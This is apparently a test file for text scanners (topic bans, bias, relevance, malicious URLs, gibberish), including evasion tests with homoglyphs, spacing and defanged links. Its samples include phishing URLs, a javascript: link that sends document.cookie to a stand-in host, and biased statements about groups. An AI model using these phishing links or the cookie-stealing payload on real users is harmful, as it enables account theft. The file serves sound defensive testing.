// BanTopics, Bias, Relevance, MaliciousURLs and Gibberish at LLM Guard's configured thresholds
// (0.8, 0.97, 0.2, 0.75, 0.97), with an attacker test each: casing, spacing, homoglyphs and URL
// obfuscation must not get a text past the scanner that would catch it written plainly.
import { describe, expect, it } from "vitest";
import { BanTopics } from "../../../src/scanners/catalogue/ban-topics.js";
import { Bias } from "../../../src/scanners/catalogue/bias.js";
import { Gibberish } from "../../../src/scanners/catalogue/gibberish.js";
import { MaliciousURLs } from "../../../src/scanners/catalogue/malicious-urls.js";
import { Relevance } from "../../../src/scanners/catalogue/relevance.js";

describe("BanTopics at LLM Guard's 0.8", () => {
  const scanner = new BanTopics({ topics: ["violence"], threshold: 0.8 });
  const report =
    "Witnesses said the gunman opened fire in the square, wounding six people before he was shot by police; two victims died in hospital.";

  it("flags a text about violence and passes texts that borrow one of its words", async () => {
    expect((await scanner.scan(report)).valid).toBe(false);
    for (const idiom of [
      "Our support team absolutely killed it this quarter: churn is down 4%.",
      "The photographer will shoot the new catalogue on Tuesday in the studio.",
      "Kill the stale worker process and restart the queue consumer.",
    ]) {
      const result = await scanner.scan(idiom);
      expect(result.valid, idiom).toBe(true);
      expect(result.score, idiom).toBeLessThan(0.5);
    }
  });

  it("scores a topic outside the lexicon by its own words and rejects an empty topic list", async () => {
    const crypto = new BanTopics({ topics: ["cryptocurrency"], threshold: 0.5 });
    expect(
      (await crypto.scan("Which cryptocurrency should I buy? Cryptocurrency prices fell.")).valid,
    ).toBe(false);
    expect((await crypto.scan("Which laptop should I buy for video editing?")).valid).toBe(true);
    expect(() => new BanTopics({ topics: [] })).toThrow(/topics/);
  });

  it("attacker: casing, spaced letters and Cyrillic look-alikes score like the plain text", async () => {
    const plain = (await scanner.scan(report)).score;
    const disguised = [
      report.toUpperCase(),
      report.replace("gunman", "g u n m a n").replace("wounding", "w o u n d i n g"),
      report.replace(/o/g, "\u043e").replace(/e/g, "\u0435"),
    ];
    for (const text of disguised) {
      const result = await scanner.scan(text);
      expect(result.valid, text).toBe(false);
      expect(result.score).toBeGreaterThanOrEqual(plain - 0.05);
    }
  });
});

describe("Bias at LLM Guard's 0.97", () => {
  const scanner = new Bias({ threshold: 0.97 });

  it("flags a trait given to a whole group and passes reporting about groups", async () => {
    for (const biased of [
      "Older workers are too slow to pick up new tools, so we should hire younger staff.",
      "Typical immigrants: lazy and always looking for handouts.",
      "Women simply can't handle the pressure of running a company.",
    ]) {
      expect((await scanner.scan(biased)).valid, biased).toBe(false);
    }
    for (const fair of [
      "Women are underrepresented on technology boards, the 2024 survey found.",
      "Older workers are more likely to be offered early retirement during restructuring.",
      "Immigrants accounted for a third of new businesses registered in the city last year.",
    ]) {
      expect(await scanner.scan(fair), fair).toEqual({ sanitized: fair, valid: true, score: 0 });
    }
  });

  it("rejects an unknown match type", () => {
    expect(() => new Bias({ matchType: "paragraph" as "full" })).toThrow(/matchType/);
  });

  it("attacker: homoglyphs, casing and zero-width characters do not hide the claim", async () => {
    for (const text of [
      "W\u043emen are t\u043e\u043e emotional to lead.",
      "WOMEN ARE TOO EMOTIONAL TO LEAD.",
      "Wo\u200bmen are too emo\u200btional to lead.",
    ]) {
      expect((await scanner.scan(text)).valid, text).toBe(false);
    }
  });
});

describe("Relevance at its default 0.2", () => {
  const scanner = new Relevance();

  it("passes short answers that share a word with the question and flags off-topic ones", () => {
    const prompt = "Which port does Redis listen on by default?";
    expect(scanner.scanOutput(prompt, "Redis uses port 6379.").valid).toBe(true);
    expect(
      scanner.scanOutput("What is the capital of Canada?", "Ottawa is the capital.").valid,
    ).toBe(true);
    const offTopic = scanner.scanOutput(
      prompt,
      "Sourdough needs a long, cold proof in the fridge overnight.",
    );
    expect(offTopic.valid).toBe(false);
    expect(offTopic.score).toBeGreaterThan(0.8);
  });

  it("rejects a threshold outside 0..1", () => {
    expect(() => new Relevance({ threshold: 2 })).toThrow(/threshold/);
  });

  it("attacker: a padded off-topic answer with no word of the question still fails", () => {
    const prompt = "How do I rotate the API keys for our staging cluster?";
    const padded = `${"Sure! ".repeat(3)}Here is a lovely recipe for banana bread with walnuts and cinnamon.`;
    expect(scanner.scanOutput(prompt, padded).valid).toBe(false);
  });
});

describe("MaliciousURLs at LLM Guard's 0.75", () => {
  const scanner = new MaliciousURLs({ threshold: 0.75 });

  it("flags phishing and malware shapes and passes ordinary links", async () => {
    for (const bad of [
      "Verify your account: https://appleid.apple.com@account-check.info/signin",
      "Your mailbox is full, upgrade at https://outlook-mailbox-upgrade.click/login",
      "Open the attached report at http://45.137.21.9/docs/report.hta",
      "Continue: <a href=\"javascript:document.location='https://x.example/?c='+document.cookie\">here</a>",
      "Sign in at https://www.xn--pypal-4ve.com/ to keep your account.",
    ]) {
      expect((await scanner.scan(bad)).valid, bad).toBe(false);
    }
    for (const good of [
      "The changelog is at https://github.com/nodejs/node/blob/main/CHANGELOG.md",
      "Manage your order at https://www.amazon.com/gp/css/order-history",
      "Docs: https://developer.mozilla.org/en-US/docs/Web/API/URL and https://nodejs.org/api/url.html",
    ]) {
      expect((await scanner.scan(good)).valid, good).toBe(true);
    }
  });

  it("rejects an unknown option", () => {
    expect(() => new MaliciousURLs({ treshold: 0.5 } as never)).toThrow(/treshold/);
  });

  it("attacker: defanged, upper-cased and look-alike links are still scored", async () => {
    for (const text of [
      "Log in at hxxps://paypal-secure-login[.]xyz/verify",
      "LOG IN AT HTTPS://PAYPAL.COM.ACCOUNT-VERIFY.XYZ/LOGIN",
      "Log in at https://p\u0430ypal.com/signin",
      "Log in at https://paypal(.)com(.)account-verify(.)xyz/login",
    ]) {
      expect((await scanner.scan(text)).valid, text).toBe(false);
    }
  });
});

describe("Gibberish at LLM Guard's 0.97", () => {
  const scanner = new Gibberish({ threshold: 0.97 });

  it("flags keyboard noise and passes real text, codes and other languages", async () => {
    for (const noise of ["dfkj woeiru xcmvn qpwoei", "ghghghgh jkjkjkjk", "zxcvbn asdfgh trewq"]) {
      expect((await scanner.scan(noise)).valid, noise).toBe(false);
    }
    for (const text of [
      "Please move the stand-up to 10:30 tomorrow; the rhythm of Tuesdays is off.",
      "Invoice INV-2291-QX is attached, ref KJ7 and SKU BLK-XL.",
      "Der Kühlschrank ist leer, wir müssen einkaufen gehen.",
    ]) {
      expect((await scanner.scan(text)).valid, text).toBe(true);
    }
  });

  it("rejects a threshold outside 0..1", () => {
    expect(() => new Gibberish({ threshold: -1 })).toThrow(/threshold/);
  });

  it("attacker: upper-casing or padding noise with a few real words does not pass it", async () => {
    expect((await scanner.scan("DFKJ WOEIRU XCMVN QPWOEI")).valid).toBe(false);
    expect((await scanner.scan("ok so dfkjw woeiru xcmvnq qpwoei zzkrt")).valid).toBe(false);
  });
});
